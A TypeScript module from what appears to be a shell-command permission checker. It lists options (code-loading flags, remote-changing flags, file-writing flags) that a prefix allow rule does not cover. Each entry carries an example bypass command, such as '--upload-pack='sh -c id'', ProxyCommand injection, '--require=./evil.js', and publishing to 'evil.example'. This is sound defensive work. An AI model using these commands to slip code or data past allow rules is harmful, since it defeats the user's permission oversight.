/**
 * Options a prefix allow rule does not cover when they follow the words it spells out: they load
 * code, change where the program talks, or write a file the rule never named. `Bash(npm test:*)`
 * covers `npm test -- --watch`, not `npm test -- --node-options=--require=./x.js`. A rule that
 * spells the option itself (`Bash(kubectl get pods --context=prod:*)`) still covers it. Each entry
 * says why, with an example that runs as a test (docs/permissions.md#what-an-allow-rule-covers).
 */

export type RiderEffect = "loads code" | "changes the remote" | "writes a file";

export interface RiderOptions {
  /** Programs the entry applies to (as rules name them). */
  programs: readonly string[];
  /** `--long` matches `--long` and `--long=value`; `-x` also matches an attached value (`-xvalue`). */
  options: readonly string[];
  effect: RiderEffect;
  reason: string;
  /** A command a prefix rule (the part before `:*`) must not cover. */
  example: { rule: string; command: string };
}

const JAVASCRIPT_RUNNERS = ["npm", "npx", "pnpm", "yarn", "bun", "node", "deno", "tsx", "ts-node", "vitest", "jest", "mocha"];
const KUBERNETES_CLIENTS = ["kubectl", "oc", "helm"];

export const RIDER_OPTIONS: readonly RiderOptions[] = [
  {
    programs: JAVASCRIPT_RUNNERS,
    options: ["--node-options", "--require", "-r", "--import", "--loader", "--experimental-loader", "--eval", "-e", "--print"],
    effect: "loads code",
    reason: "node and the runners that start it (mocha, vitest through npm scripts) load or evaluate the module or text these name",
    example: { rule: "npm test", command: "npm test -- --node-options=--require=./evil.js" },
  },
  {
    programs: ["npm", "npx", "pnpm", "yarn"],
    options: ["--script-shell", "--userconfig", "--globalconfig", "--prefix", "--call"],
    effect: "loads code",
    reason: "the package manager runs scripts with another shell, reads another configuration, or runs the command given",
    example: { rule: "npm run build", command: "npm run build --script-shell=./evil.sh" },
  },
  {
    programs: ["npm", "npx", "pnpm", "yarn"],
    options: ["--registry"],
    effect: "changes the remote",
    reason: "packages (and the token sent with them) come from and go to another registry",
    example: { rule: "npm publish", command: "npm publish --registry=https://evil.example" },
  },
  {
    programs: KUBERNETES_CLIENTS,
    options: ["--server", "-s", "--kubeconfig", "--context", "--kube-context", "--cluster", "--user", "--token", "--as", "--as-group"],
    effect: "changes the remote",
    reason: "the command talks to another cluster or as another identity than the rule's",
    example: { rule: "kubectl apply -f k8s/", command: "kubectl apply -f k8s/ --server=https://other.example" },
  },
  {
    programs: ["helm"],
    options: ["--post-renderer"],
    effect: "loads code",
    reason: "helm runs the post-renderer program on the rendered manifests",
    example: { rule: "helm template", command: "helm template x . --post-renderer ./evil.sh" },
  },
  {
    programs: ["curl"],
    options: ["-o", "--output", "-O", "--remote-name", "--remote-name-all", "-D", "--dump-header", "-c", "--cookie-jar", "--output-dir"],
    effect: "writes a file",
    reason: "curl writes the response (or headers, cookies) to a file the rule never named",
    example: { rule: "curl https://api.example", command: "curl https://api.example -o page.html" },
  },
  {
    programs: ["curl"],
    options: [
      "-K",
      "--config",
      "-x",
      "--proxy",
      "--resolve",
      "--connect-to",
      "-T",
      "--upload-file",
      "-d",
      "--data",
      "--data-binary",
      "-F",
      "--form",
    ],
    effect: "changes the remote",
    reason: "curl reads more options from a file, sends through or to another host, or uploads data the rule never named",
    example: { rule: "curl https://api.example", command: "curl https://api.example --config ./other.cfg" },
  },
  {
    programs: ["wget"],
    options: [
      "-O",
      "--output-document",
      "-o",
      "--output-file",
      "-P",
      "--directory-prefix",
      "-e",
      "--execute",
      "--config",
      "-i",
      "--input-file",
    ],
    effect: "writes a file",
    reason: "wget writes elsewhere, runs wgetrc commands, or fetches the URLs a file lists",
    example: { rule: "wget https://files.example", command: "wget https://files.example -O page.html" },
  },
  {
    programs: ["git"],
    options: ["--upload-pack", "--receive-pack", "--exec", "--template", "--config"],
    effect: "loads code",
    reason: "git runs the program named, copies hooks from a template, or applies configuration that runs programs",
    example: { rule: "git fetch", command: "git fetch origin --upload-pack='sh -c id'" },
  },
  {
    programs: ["pytest", "py.test"],
    options: ["-p", "-c", "--config-file", "-o", "--override-ini", "--rootdir", "--confcutdir"],
    effect: "loads code",
    reason: "pytest imports the plugin named or reads another configuration (addopts, plugins)",
    example: { rule: "pytest tests", command: "pytest tests -p evil_plugin" },
  },
  {
    programs: ["cargo"],
    options: ["--config", "-Z", "--manifest-path"],
    effect: "loads code",
    reason: "cargo configuration can set build.rustc-wrapper, which runs a program; another manifest builds other code",
    example: { rule: "cargo test", command: "cargo test --config build.rustc-wrapper='./evil'" },
  },
  {
    programs: ["make", "gmake"],
    options: ["-f", "--file", "--makefile", "--eval", "-E", "-C", "--directory", "SHELL", "MAKESHELL"],
    effect: "loads code",
    reason: "make reads another makefile or evaluates the text, or runs recipes with another shell",
    example: { rule: "make test", command: "make test --eval='x:=$(shell id)'" },
  },
  {
    programs: ["gh"],
    options: ["-R", "--repo", "--hostname"],
    effect: "changes the remote",
    reason: "gh talks to another repository or host, with the user's token",
    example: { rule: "gh pr create", command: "gh pr create --fill -R evil.example/owner/repo" },
  },
  {
    programs: ["ssh", "scp", "sftp"],
    options: ["-o", "-F", "-J", "-S"],
    effect: "loads code",
    reason: "an option such as ProxyCommand, another configuration, a jump host or another ssh program runs code or reaches another host",
    example: { rule: "ssh build.example", command: "ssh build.example -o ProxyCommand='sh -c id'" },
  },
  {
    programs: ["rsync"],
    options: ["-e", "--rsh", "--rsync-path"],
    effect: "loads code",
    reason: "rsync runs the remote shell or remote program named",
    example: { rule: "rsync -a dist/ host:/srv", command: "rsync -a dist/ host:/srv -e 'sh -c id'" },
  },
  {
    programs: ["terraform", "tofu"],
    options: ["-chdir", "-plugin-dir"],
    effect: "loads code",
    reason: "terraform runs another configuration's providers, or providers from another directory",
    example: { rule: "terraform plan", command: "terraform plan -chdir=../other" },
  },
];

const BY_PROGRAM = new Map<string, RiderOptions[]>();
for (const entry of RIDER_OPTIONS)
  for (const program of entry.programs) BY_PROGRAM.set(program, [...(BY_PROGRAM.get(program) ?? []), entry]);

/** A URL with a scheme (`https://x`, `git+ssh://x`): a rule that names one does not cover a second. */
const URL_WORD = /^[A-Za-z][A-Za-z0-9+.-]*:\/\//;

function matchesOption(word: string, option: string): boolean {
  if (word === option || word.startsWith(`${option}=`)) return true;
  // `-oProxyCommand=…`, `-r./x.js`: a short option with its value attached.
  return /^-[A-Za-z]$/.test(option) && word.startsWith(option) && word.length > 2;
}

/**
 * Why the words after a rule's literal part are not covered by it, or undefined. `program` is the
 * program as rules name it, `spelled` the words the rule spells out (the program included), `rest`
 * the words that follow them.
 */
export function riderProblem(program: string, spelled: readonly string[], rest: readonly string[]): string | undefined {
  for (const word of rest) {
    for (const entry of BY_PROGRAM.get(program) ?? []) {
      const option = entry.options.find((candidate) => matchesOption(word, candidate));
      if (option !== undefined) return `'${word}' ${entry.effect}: ${entry.reason}`;
    }
    if (URL_WORD.test(word) && spelled.some((part) => URL_WORD.test(part)))
      return `'${word}' changes the remote: the rule names one URL, and the command talks to another`;
  }
  return undefined;
}
